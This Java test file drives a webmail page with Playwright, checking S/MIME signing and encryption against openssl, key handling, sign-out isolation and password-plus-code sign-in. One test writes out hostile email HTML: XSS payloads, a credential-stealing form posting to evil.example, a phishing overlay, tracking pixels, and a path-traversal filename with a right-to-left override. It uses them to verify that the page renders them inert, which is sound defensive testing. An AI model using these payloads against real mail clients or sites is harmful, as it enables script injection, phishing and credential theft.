package io.carom.mailnet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.BrowserType;
import com.microsoft.playwright.Download;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Playwright;
import com.microsoft.playwright.options.ColorScheme;
import io.carom.certificate.Certificates;
import io.carom.mailnet.enrol.Membership;
import io.carom.mailnet.identity.Members;
import io.carom.mailnet.identity.Totp;
import io.carom.mailnet.identity.Words;
import io.carom.mailnet.seal.Smime;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.TimeUnit;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// The page for members without a mail program, in a browser: Debian's Chromium, where it is installed.
/// Pictures are kept below `target/screenshots`, to be looked at.
final class PageTest {
    private static final List<String> BROWSERS =
            List.of("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome");
    private static final String PASSPHRASE = "correct horse battery";
    private static @Nullable Playwright playwright;
    private static @Nullable Browser browser;

    @TempDir
    Path folder;

    private final List<String> faults = new ArrayList<>();
    private boolean hostile;
    private TestNetwork net;
    private BrowserContext context;

    @BeforeAll
    static void launch() {
        Path chromium = BROWSERS.stream()
                .map(Path::of)
                .filter(Files::isExecutable)
                .findFirst()
                .orElse(null);
        assumeTrue(chromium != null, "no Chromium is installed");
        playwright = Playwright.create(
                new Playwright.CreateOptions().setEnv(Map.of("PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD", "1")));
        browser = playwright
                .chromium()
                .launch(new BrowserType.LaunchOptions()
                        .setExecutablePath(Objects.requireNonNull(chromium))
                        .setArgs(List.of(
                                "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking")));
    }

    @AfterAll
    static void end() {
        if (playwright != null) {
            playwright.close();
        }
    }

    @BeforeEach
    void begin() throws Exception {
        net = new TestNetwork(folder, "northgate.example");
        context = context(false);
    }

    @AfterEach
    void close() throws Exception {
        context.close();
        net.close();
        assertEquals(List.of(), faults);
    }

    private static BrowserContext context(boolean dark) {
        BrowserContext made = Objects.requireNonNull(browser)
                .newContext(new Browser.NewContextOptions()
                        .setViewportSize(1200, 800)
                        .setColorScheme(dark ? ColorScheme.DARK : ColorScheme.LIGHT)
                        // The network's authority is none of the browser's; the page compares its fingerprint.
                        .setIgnoreHTTPSErrors(true));
        made.setDefaultTimeout(60_000);
        return made;
    }

    private Page page(BrowserContext of) {
        Page page = of.newPage();
        page.onPageError(e -> faults.add("error: " + e));
        page.onConsoleMessage(m -> {
            // A stranger's page is parsed under the policy of this one: what the browser says it blocked was in the
            // mail.
            boolean ofTheMail = hostile && m.text().contains("The action has been blocked");
            if (m.type().equals("error") && !m.text().contains("status of 4") && !ofTheMail) {
                faults.add("console: " + m.text());
            }
        });
        page.onDialog(d -> {
            faults.add("dialog: " + d.message());
            d.dismiss();
        });
        // Nothing is asked of any other host.
        page.onRequest(r -> {
            if (!r.url().startsWith(address("")) && !r.url().startsWith("blob:" + address(""))) {
                faults.add("asked for " + r.url());
            }
        });
        return page;
    }

    private String address(String path) {
        return "https://127.0.0.1:" + net.ports().members() + "/" + path;
    }

    private void picture(Page page, String name) throws Exception {
        page.screenshot(new Page.ScreenshotOptions()
                .setPath(Path.of("target", "screenshots", "mail-" + name + ".png"))
                .setFullPage(true));
        assertEquals(List.of(), barriers(page), name);
    }

    /// What of a page keeps somebody out, as axe-core finds it. It is run by the debugger, which the
    /// page's policy does not bind.
    private static List<String> barriers(Page page) throws Exception {
        String axe;
        try (InputStream in =
                PageTest.class.getResourceAsStream("/META-INF/resources/webjars/axe-core/4.6.3/axe.min.js")) {
            axe = new String(Objects.requireNonNull(in).readAllBytes(), StandardCharsets.UTF_8);
        }
        page.evaluate(axe + "; 0");
        Object found =
                page.evaluate("async () => (await axe.run()).violations.map(v => v.id + ': ' + v.nodes.slice(0, 3)"
                        + ".map(n => n.html.slice(0, 160) + ' ' + n.failureSummary).join(' | '))");
        return ((List<?>) found).stream().map(String::valueOf).toList();
    }

    private String link(String local, boolean totp) throws Exception {
        Members.Invitation invitation =
                net.network.members().invite(net.address(local), local, totp, Duration.ofHours(1));
        return net.network.link(invitation, net.ports().members());
    }

    /// Joins on the page; gives the key file.
    private Path join(Page page, String local, boolean totp) throws Exception {
        page.navigate(link(local, totp));
        page.waitForSelector("text=Make my key and join");
        assertTrue(
                page.innerText("main").contains(Words.of(net.network.authority().fingerprint())));
        page.fill("input[name=passphrase]", PASSPHRASE);
        page.fill("input[name=again]", PASSPHRASE);
        if (local.equals("eva")) {
            picture(page, "join");
        }
        page.click("text=Make my key and join");
        page.waitForSelector("text=You are in");
        Download download = page.waitForDownload(() -> page.click("text=Save the key file"));
        Path file = folder.resolve(local + ".p12");
        download.saveAs(file);
        return file;
    }

    private void enter(Page page) {
        page.click("text=Go to my mail");
        page.waitForSelector("nav >> text=Inbox");
    }

    private X509Certificate certificate(String local) throws Exception {
        return Objects.requireNonNull(
                Objects.requireNonNull(net.network.members().active(net.address(local)))
                        .certificate());
    }

    private byte[] fetched(String local, int number) throws Exception {
        try (Talker imap = net.imap(local)) {
            imap.say("b SELECT INBOX", "b OK ");
            String got = imap.say("c FETCH " + number + " BODY.PEEK[]", "c OK ");
            String raw = got.substring(got.indexOf("Return-Path:"), got.lastIndexOf(")\nc OK"));
            return raw.replace("\n", "\r\n").getBytes(StandardCharsets.ISO_8859_1);
        }
    }

    private String run(String... command) throws Exception {
        Path out = Files.createTempFile(folder, "out", "");
        Process process = new ProcessBuilder(command)
                .redirectErrorStream(true)
                .redirectOutput(out.toFile())
                .start();
        assertTrue(process.waitFor(60, TimeUnit.SECONDS), String.join(" ", command));
        String told = Files.readString(out, StandardCharsets.UTF_8);
        assertEquals(0, process.exitValue(), told);
        return told;
    }

    private void deliver(String from, byte[] mail, String to) throws Exception {
        try (Talker smtp = net.submission(from)) {
            String reply = smtp.mail(from + "@northgate.example", mail, to + "@northgate.example");
            assertTrue(reply.startsWith("250 "), reply);
        }
    }

    @Test
    void whatIsWrittenOnThePageIsReadByOpenSslAndTheOtherWay() throws Exception {
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/openssl")), "no openssl is installed");
        Membership tom = net.join("tom");
        Page page = page(context);
        Path file = join(page, "eva", false);
        picture(page, "joined");
        assertTrue(page.innerText("main").contains(Words.of(Certificates.fingerprint(certificate("eva")))));
        enter(page);
        picture(page, "empty");
        page.click("nav >> text=Write");
        page.fill("input[name=to]", "tom@northgate.example");
        page.fill("input[name=subject]", "Zugänge gesperrt");
        page.fill("textarea", "Bitte alle Zugänge zurücksetzen.\n.\nEva");
        Path attached = Files.write(folder.resolve("Liste für Tom.bin"), new byte[] {0, 1, 2, (byte) 0xff});
        page.setInputFiles("input[type=file]", attached);
        picture(page, "write");
        page.click("text=Sign, encrypt and send");
        page.waitForSelector("h1:has-text('Sent')");
        page.waitForSelector("text=Zugänge gesperrt");
        picture(page, "sent");

        byte[] raw = fetched("tom", 1);
        String outside = new String(raw, StandardCharsets.ISO_8859_1);
        assertTrue(outside.contains("\r\nSubject: [...]\r\n") && !outside.contains("gesperrt"), outside);
        Path mail = Files.write(folder.resolve("mail.eml"), raw);
        Path inner = folder.resolve("inner.p7m");
        run(
                "openssl",
                "cms",
                "-decrypt",
                "-in",
                mail.toString(),
                "-inkey",
                tom.folder() + "/member.key",
                "-recip",
                tom.folder() + "/member.crt",
                "-out",
                inner.toString());
        Path said = folder.resolve("said.txt");
        run(
                "openssl",
                "cms",
                "-verify",
                "-in",
                inner.toString(),
                "-CAfile",
                tom.folder() + "/ca.crt",
                "-signer",
                folder.resolve("signer.crt").toString(),
                "-out",
                said.toString());
        String text = Files.readString(said, StandardCharsets.UTF_8);
        assertTrue(
                text.contains(Base64.getMimeEncoder()
                        .encodeToString(
                                "Bitte alle Zugänge zurücksetzen.\r\n.\r\nEva".getBytes(StandardCharsets.UTF_8))),
                text);
        assertTrue(text.contains(Base64.getEncoder().encodeToString(new byte[] {0, 1, 2, (byte) 0xff})), text);
        assertEquals(
                certificate("eva"),
                io.carom.certificate.Pem.certificates(folder.resolve("signer.crt"))
                        .getFirst());
        // The key in the file is the one that mails reach.
        run(
                "openssl",
                "pkcs12",
                "-in",
                file.toString(),
                "-passin",
                "pass:" + PASSPHRASE,
                "-noenc",
                "-out",
                folder.resolve("eva.pem").toString());

        Path letter = Files.writeString(
                folder.resolve("letter.txt"),
                "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nAlles zurückgesetzt. ‮moc.live‬\n");
        Path signed = folder.resolve("signed.eml");
        run(
                "openssl",
                "cms",
                "-sign",
                "-in",
                letter.toString(),
                "-signer",
                tom.folder() + "/member.crt",
                "-inkey",
                tom.folder() + "/member.key",
                "-out",
                signed.toString());
        Path to = Files.writeString(folder.resolve("eva.crt"), io.carom.certificate.Pem.text(certificate("eva")));
        Path sealed = folder.resolve("sealed.eml");
        run(
                "openssl",
                "cms",
                "-encrypt",
                "-aes256",
                "-in",
                signed.toString(),
                "-out",
                sealed.toString(),
                to.toString());
        String whole = "From: Tom <tom@northgate.example>\nTo: eva@northgate.example\nSubject: Antwort\n"
                + Files.readString(sealed).replace("\r\n", "\n");
        deliver("tom", whole.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8), "eva");

        page.click("nav >> text=Inbox");
        page.click("a:has-text('tom')");
        page.waitForSelector(".verdict.good");
        assertTrue(
                page.innerText(".plain").contains("Alles zurückgesetzt. ⟨U+202E⟩moc.live⟨U+202C⟩"),
                page.innerText("main"));
        assertTrue(page.innerText(".verdict")
                .contains(Words.of(Certificates.fingerprint(tom.identity().certificate()))));
        picture(page, "read");

        // Answered with what was written before it, in the same conversation.
        page.click("text=Answer >> nth=0");
        assertEquals("tom@northgate.example", page.inputValue("input[name=to]"));
        assertTrue(page.inputValue("textarea").contains("> Alles zurückgesetzt."));
        page.click("text=Sign, encrypt and send");
        page.waitForSelector("h1:has-text('Sent')");
        assertEquals(3, net.audit("mail.accepted").size());

        // Compared by telephone, which the page remembers.
        page.click("nav >> text=People");
        page.click("li:has-text('tom@northgate.example') >> text=I compared these words by telephone");
        picture(page, "people");
        page.click("nav >> text=Inbox");
        page.click("a:has-text('tom')");
        page.waitForSelector("text=whose key you compared");

        // No script can take the key out.
        Object kept = page.evaluate("""
                async () => {
                  const db = await new Promise((y, n) => { const r = indexedDB.open('carom-mail'); r.onsuccess = () => y(r.result); r.onerror = n; });
                  const all = await new Promise((y) => { const r = db.transaction('keys').objectStore('keys').getAll(); r.onsuccess = () => y(r.result); });
                  const told = [];
                  for (const key of [all[0].sign, all[0].agree]) {
                    for (const form of ['pkcs8', 'jwk']) {
                      told.push(await crypto.subtle.exportKey(form, key).then(() => 'exported', (e) => e.name));
                    }
                  }
                  return told.join(' ');
                }
                """);
        assertEquals("InvalidAccessError InvalidAccessError InvalidAccessError InvalidAccessError", kept);

        // Signed in anew by the key alone, after the page was closed.
        page.close();
        Page again = page(context);
        again.navigate(address(""));
        again.waitForSelector("nav >> text=Inbox");
        again.click("nav >> text=My key");
        again.waitForSelector("text=Your words");
        picture(again, "key");

        // And in another browser by the key file.
        try (BrowserContext other = context(true)) {
            Page elsewhere = page(other);
            elsewhere.navigate(address("page/"));
            elsewhere.waitForSelector("text=With your key file");
            picture(elsewhere, "door-dark");
            elsewhere.setInputFiles("input[name=file]", file);
            elsewhere.fill("form:has(input[name=file]) input[name=passphrase]", "wrong");
            elsewhere.click("text=Open the key");
            elsewhere.waitForSelector("text=The passphrase is not that of this key file");
            elsewhere.fill("form:has(input[name=file]) input[name=passphrase]", PASSPHRASE);
            elsewhere.click("text=Open the key");
            elsewhere.click("a:has-text('tom')");
            elsewhere.waitForSelector("text=Alles zurückgesetzt.");
            picture(elsewhere, "read-dark");
        }

        // Revoked is out at once.
        assertTrue(net.network.members().revoke(net.address("eva"), "laptop stolen"));
        again.click("nav >> text=Inbox");
        again.waitForSelector("text=You are not signed in any more.");
        picture(again, "revoked");
    }

    @Test
    void whatIsHostileIsShownInert() throws Exception {
        hostile = true;
        net.join("tom");
        net.join("mallory");
        Page page = page(context);
        join(page, "eva", false);
        X509Certificate eva = certificate("eva");
        String html = """
                <html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
                <style>body{background:url(https://evil.example/style)}</style><link rel=stylesheet href=https://evil.example/l.css></head>
                <body onload="alert(1)"><img src="https://evil.example/pixel.gif" onerror="alert(2)" alt="Bank"><script>alert(3)</script>
                <svg onload=alert(4)><script>alert(5)</script><a xlink:href="javascript:alert(6)">svg</a></svg>
                <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(7)&gt;"></table></mtext></math>
                <iframe srcdoc="<script>parent.alert(8)</script>"></iframe><object data="https://evil.example/o"></object>
                <form action="https://evil.example/steal" id="main"><input name="password" autofocus onfocus=alert(9)><button>Send</button></form>
                <p style="position:fixed;inset:0" class="fault" id="said">Your session is over. <a href="https://evil.example/login">https://northgate.example/</a></p>
                <a href="javascript:alert(10)">click</a><noscript><p title="</noscript><img src=x onerror=alert(11)>"></noscript>
                <template><img src=x onerror=alert(12)></template><video poster="https://evil.example/v"><source onerror=alert(13)></video>
                </body></html>""";
        byte[] hostile = sealed(
                "tom",
                "Content-Type: text/html; charset=utf-8\r\nSubject: <img src=x onerror=alert(14)>\r\n\r\n" + html,
                eva);
        deliver("tom", hostile, "eva");
        // Signed by another than whoever sends it.
        byte[] entity = "Content-Type: text/plain\r\n\r\npay today\r\n".getBytes(StandardCharsets.US_ASCII);
        deliver("mallory", whole("mallory", Smime.sealed(entity, net.identity("tom"), List.of(eva))), "eva");
        // Files with names that lead elsewhere, of a kind that browsers open.
        deliver(
                "tom",
                sealed(
                        "tom",
                        "Content-Type: text/html; name=\"../../evil‮gpj.html\"\r\nContent-Disposition: attachment;"
                                + " filename=\"../../evil.html\"\r\n\r\n<script>alert(15)</script>",
                        eva),
                "eva");
        enter(page);
        page.waitForSelector(".subject:has-text('<img src=x onerror=alert(14)>')");
        picture(page, "inbox");
        page.click(".subject:has-text('<img src=x')");
        page.waitForSelector(".body:has-text('Your session is over.')");
        picture(page, "hostile");
        String shown = page.innerText(".body");
        assertTrue(shown.contains("⟨picture: Bank⟩"), shown);
        assertTrue(shown.contains("https://northgate.example/ ⟨leads to https://evil.example/login⟩"), shown);
        assertTrue(shown.contains("⟨leads to javascript:alert(10)⟩"), shown);
        assertEquals(
                0L,
                ((Number)
                                page.evaluate(
                                        "() => [...document.querySelectorAll('.body *')].filter(e => e.attributes.length"
                                                + " || ['A','IMG','SCRIPT','STYLE','FORM','INPUT','BUTTON','SVG','IFRAME','OBJECT'].includes(e.nodeName)).length"))
                        .longValue());

        page.click("nav >> text=Inbox");
        page.click("a:has-text('mallory')");
        page.waitForSelector(
                ".verdict.bad:has-text('It says that it is from mallory@northgate.example, but tom@northgate.example signed it.')");
        picture(page, "forged");

        page.click("nav >> text=Inbox");
        page.click("li:has-text('tom') >> nth=0");
        page.waitForSelector("text=Files");
        Download download = page.waitForDownload(() -> page.click("button:has-text('Save')  >> nth=1"));
        assertFalse(
                download.suggestedFilename().contains("/")
                        || download.suggestedFilename().contains("\\"),
                download.suggestedFilename());
        picture(page, "file");
    }

    private byte[] sealed(String from, String entity, X509Certificate to) throws Exception {
        return whole(from, Smime.sealed(entity.getBytes(StandardCharsets.UTF_8), net.identity(from), List.of(to)));
    }

    private byte[] whole(String from, byte[] sealed) {
        byte[] fields = ("From: " + from + "@northgate.example\r\nTo: eva@northgate.example\r\nSubject: [...]\r\n")
                .getBytes(StandardCharsets.US_ASCII);
        byte[] all = new byte[fields.length + sealed.length];
        System.arraycopy(fields, 0, all, 0, fields.length);
        System.arraycopy(sealed, 0, all, fields.length, sealed.length);
        return all;
    }

    /// One browser, two members, one after the other: nothing that the first read is there for the second.
    @Test
    void whoSignsOutLeavesNothingToTheNext() throws Exception {
        net.join("mallory");
        Page page = page(context);
        join(page, "eva", false);
        Path toms;
        try (BrowserContext other = context(false)) {
            toms = join(page(other), "tom", false);
        }
        String entity = "Content-Type: text/plain\r\nSubject: For %s alone\r\n\r\nThe word is %s.\r\n";
        deliver("mallory", sealed("mallory", entity.formatted("Eva", "pelican"), certificate("eva")), "eva");
        deliver("mallory", sealed("mallory", entity.formatted("Tom", "heron"), certificate("tom")), "tom");
        enter(page);
        page.click(".subject:has-text('For Eva alone')");
        page.waitForSelector(".body:has-text('pelican')");
        page.click("text=Answer >> nth=0");
        page.waitForSelector("h1:has-text('Write')");
        page.click("nav >> text=My key");
        page.click("text=Sign out");
        page.waitForSelector("text=With your key file");
        page.setInputFiles("input[name=file]", toms);
        page.fill("form:has(input[name=file]) input[name=passphrase]", PASSPHRASE);
        page.click("text=Open the key");
        page.click("nav >> text=Inbox");
        page.waitForSelector(".subject:has-text('For Tom alone')");
        assertFalse(page.innerText("main").contains("Eva"), page.innerText("main"));
        page.evaluate("() => { location.hash = '#/write'; }");
        page.waitForSelector("textarea");
        assertEquals("", page.inputValue("textarea"));
    }

    @Test
    void aLinkOfAnotherNetworkIsNotFollowed() throws Exception {
        Page page = page(context);
        String link = link("eva", false);
        page.navigate(link.substring(0, link.length() - 64) + "0".repeat(64));
        page.waitForSelector("text=This is not the network of your invitation");
        picture(page, "between");
        assertEquals(
                0,
                net.audit("member.joined").stream()
                        .filter(d -> d.contains("eva"))
                        .count());
    }

    @Test
    void passwordAndCodeSignInButReadNothingWithoutTheKey() throws Exception {
        net.join("tom");
        Page page = page(context);
        join(page, "eva", true);
        String password = page.innerText("dt:has-text('Password') + dd");
        String secret = page.innerText("dt:has-text('Secret') + dd");
        picture(page, "joined-totp");
        deliver("tom", net.mail("tom", "for the key alone", certificate("eva")), "eva");
        try (BrowserContext other = context(false)) {
            Page elsewhere = page(other);
            elsewhere.navigate(address("page/"));
            elsewhere.click("text=With password and code");
            elsewhere.fill("input[name=address]", "eva@northgate.example");
            elsewhere.fill("input[name=password]", password);
            elsewhere.fill("input[name=code]", Totp.code(secret, Totp.step(Instant.now())));
            elsewhere.click("button:text-is('Sign in')");
            elsewhere.click("a:has-text('tom')");
            elsewhere.waitForSelector("text=This browser has no key of yours.");
            assertFalse(elsewhere.innerText("main").contains("for the key alone"));
            picture(elsewhere, "no-key");
        }
        assertEquals(
                1,
                net.audit("signin").stream()
                        .filter(d -> d.contains("\"page\"") && d.contains("password"))
                        .count());
    }
}
